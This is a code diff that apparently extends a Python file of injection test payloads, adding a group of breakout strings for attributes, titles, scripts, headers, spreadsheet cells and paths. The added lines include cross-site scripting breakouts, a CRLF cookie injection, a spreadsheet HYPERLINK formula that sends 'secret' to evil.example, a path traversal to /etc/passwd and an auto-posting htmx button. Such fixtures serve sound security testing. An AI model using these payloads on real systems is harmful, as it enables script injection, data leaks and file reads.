@@ -279,6 +279,22 @@ _MUTATION = """
 {% debug %}
 ${alert(1)}
 """
+#: Out of whatever a name may stand in: an attribute, a title, a script, a header, a cell, an address.
+_BREAKOUTS = """
+x" autofocus onfocus="alert(1)
+x' autofocus onfocus='alert(1)
+"><svg/onload=alert(1)>
+'-alert(1)-'
+</title><script>alert(1)</script>
+</textarea><script>alert(1)</script>
+</option></select><script>alert(1)</script>
+</template><img src=x onerror=alert(1)>
+"}, "evil": {"x": "
+%0d%0aSet-Cookie: evil=1
+=HYPERLINK("http://evil.example/?q=secret","x")
+../../../etc/passwd
+"><button hx-post=/app/chats/ hx-trigger=load>x</button>
+"""
 _BLOCKS = [
     "<script>\nalert(1)\n</script>",
     "<style>\n@import '//evil.example/x.css';\n</style>",
@@ -316,7 +332,7 @@ _BLOCKS = [
 
 PAYLOADS = [
     line
-    for group in (_SCRIPTS, _HANDLERS, _ADDRESSES, _LINKS, _PAGE, _SVG_MATH, _MUTATION)
+    for group in (_SCRIPTS, _HANDLERS, _ADDRESSES, _LINKS, _PAGE, _SVG_MATH, _MUTATION, _BREAKOUTS)
     for line in group.strip("\n").split("\n")
 ] + _BLOCKS
 
